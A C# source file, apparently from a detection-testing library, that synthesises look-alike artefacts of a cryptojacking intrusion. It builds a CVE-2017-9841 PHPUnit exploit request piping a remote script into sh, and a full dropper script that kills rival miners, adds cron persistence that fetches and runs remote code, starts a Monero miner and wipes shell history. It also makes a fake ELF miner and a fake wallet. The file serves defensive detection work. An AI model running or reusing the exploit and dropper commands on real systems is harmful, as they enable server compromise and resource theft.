using System.Buffers.Binary;
using System.Text;
using Assay.Synthesis.Sessions;

namespace Assay.Synthesis.Payloads;

/// <summary>
/// Inert look-alikes of a cryptojacking intrusion's artefacts: the exploit request, the dropper script, the miner binary and the
/// wallet. They carry the strings detection rules look for; none of it runs (the "ELF" is a header and random bytes).
/// </summary>
public static class AttackPayloads
{
    public const string PhpUnitPath = "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php";
    private const string Base58Alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";

    /// <summary>CVE-2017-9841: POST to PHPUnit's eval-stdin.php with a <c>&lt;?php</c> body that pipes a script into sh.</summary>
    public static byte[] PhpUnitExploit(string host, string scriptUrl)
    {
        byte[] body = Encoding.ASCII.GetBytes($"<?php system('cd /tmp || cd /var/run; curl -s {scriptUrl} | sh || wget -q -O - {scriptUrl} | sh'); ?>");
        return HttpMessages.Request("POST", PhpUnitPath, host,
        [
            new("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"),
            new("Accept-Encoding", "gzip, deflate"),
            new("Accept", "*/*"),
            new("Connection", "keep-alive"),
            new("Content-Type", "application/x-www-form-urlencoded"),
        ], body);
    }

    /// <summary>
    /// A kinsing / TeamTNT-style dropper: kills competing miners, disables defences, adds cron persistence, fetches the miner,
    /// makes it immutable with <c>chattr +i</c> and starts it against <paramref name="pool"/>.
    /// </summary>
    public static byte[] DropperScript(string baseUrl, string minerName, string pool, string wallet)
    {
        var s = new StringBuilder();
        s.Append("#!/bin/sh\n");
        s.Append("# update\n");
        s.Append("export PATH=$PATH:/bin:/usr/bin:/sbin:/usr/sbin:/usr/local/bin\n");
        s.Append("ulimit -n 65535\n");
        s.Append("DIR=/tmp/.ICE-unix/.x\n");
        s.Append("mkdir -p $DIR && cd $DIR\n\n");
        s.Append("# remove the competition\n");
        foreach (string rival in (ReadOnlySpan<string>)["kdevtmpfsi", "kinsing", "xmrig", "xmr-stak", "minerd", "cryptonight", "sysupdate", "networkservice"])
            s.Append("pkill -9 -f ").Append(rival).Append(" 2>/dev/null\n");
        s.Append("ps aux | grep -v grep | grep -E 'stratum|monero|:3333|:5555' | awk '{print $2}' | xargs -r kill -9\n");
        s.Append("netstat -anp | grep ':3333\\|:4444\\|:5555' | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -r kill -9\n");
        s.Append("chattr -i /etc/crontab /var/spool/cron/crontabs/root 2>/dev/null\n\n");
        s.Append("# persistence\n");
        s.Append("(crontab -l 2>/dev/null | grep -v x.sh; echo \"*/15 * * * * (curl -fsSL ").Append(baseUrl).Append("/x.sh || wget -q -O - ")
            .Append(baseUrl).Append("/x.sh) | sh\") | crontab -\n\n");
        s.Append("# payload\n");
        s.Append("curl -s -o ").Append(minerName).Append(' ').Append(baseUrl).Append('/').Append(minerName)
            .Append(" || wget -q -O ").Append(minerName).Append(' ').Append(baseUrl).Append('/').Append(minerName).Append('\n');
        s.Append("chmod +x ").Append(minerName).Append('\n');
        s.Append("chattr +i $DIR/").Append(minerName).Append(" 2>/dev/null\n");
        s.Append("nohup ./").Append(minerName).Append(" -o ").Append(pool).Append(" -u ").Append(wallet)
            .Append(" -p x -k --donate-level 1 --background >/dev/null 2>&1 &\n");
        s.Append("history -c; rm -f ~/.bash_history\n");
        return Encoding.ASCII.GetBytes(s.ToString());
    }

    /// <summary>
    /// <paramref name="size"/> bytes that start with a valid ELF64 header (little-endian, ARM or x86-64) and hold the strings an
    /// XMRig build carries: "xmrig", "randomx", "stratum+tcp://", the pool and the wallet. The rest is seeded random bytes.
    /// </summary>
    public static byte[] MinerElf(SeededRandom random, int size, string pool, string wallet, bool arm = true)
    {
        ArgumentNullException.ThrowIfNull(random);
        ArgumentOutOfRangeException.ThrowIfLessThan(size, 4096);
        byte[] elf = random.NextBytes(size);
        Span<byte> h = elf.AsSpan(0, 64);
        h.Clear();
        "\u007fELF"u8.CopyTo(h);
        h[4] = 2; // ELFCLASS64
        h[5] = 1; // little-endian
        h[6] = 1; // EV_CURRENT
        BinaryPrimitives.WriteUInt16LittleEndian(h[16..], 2); // ET_EXEC
        BinaryPrimitives.WriteUInt16LittleEndian(h[18..], (ushort)(arm ? 183 : 62)); // EM_AARCH64 / EM_X86_64
        BinaryPrimitives.WriteUInt32LittleEndian(h[20..], 1);
        BinaryPrimitives.WriteUInt64LittleEndian(h[24..], 0x400000 + 0x1000); // e_entry
        BinaryPrimitives.WriteUInt64LittleEndian(h[32..], 64); // e_phoff
        BinaryPrimitives.WriteUInt16LittleEndian(h[52..], 64); // e_ehsize
        BinaryPrimitives.WriteUInt16LittleEndian(h[54..], 56); // e_phentsize

        string[] strings =
        [
            "xmrig", "XMRig/6.21.0", "randomx", "RandomX_MoneroConfig", "rx/0", "cn/r", "stratum+tcp://", "stratum+ssl://",
            "--donate-level", "donate.v2.xmrig.com", "mining.subscribe", "\"method\":\"login\"", "keepalived",
            "stratum+tcp://" + pool, wallet, "huge pages", "msr", "cpu: %s (%d) %sx64 %sAES",
        ];
        int offset = Math.Max(1024, size / 3);
        foreach (string text in strings)
        {
            byte[] bytes = Encoding.ASCII.GetBytes(text);
            if (offset + bytes.Length + 1 >= elf.Length)
                break;
            bytes.CopyTo(elf, offset);
            elf[offset + bytes.Length] = 0;
            offset += bytes.Length + 1 + random.Next(16, 512);
        }

        return elf;
    }

    /// <summary>A Monero-looking standard address: 95 base58 characters starting with 4 (not a valid checksum).</summary>
    public static string MoneroWallet(SeededRandom random)
    {
        ArgumentNullException.ThrowIfNull(random);
        var s = new StringBuilder(95);
        s.Append('4');
        s.Append("0123456789AB"[random.Next(12)] switch { '0' => '8', char c => c });
        while (s.Length < 95)
            s.Append(Base58Alphabet[random.Next(Base58Alphabet.Length)]);
        return s.ToString();
    }

    /// <summary>Random lowercase hex of <paramref name="bytes"/> bytes.</summary>
    public static string Hex(SeededRandom random, int bytes)
    {
        ArgumentNullException.ThrowIfNull(random);
        return Convert.ToHexStringLower(random.NextBytes(bytes));
    }
}
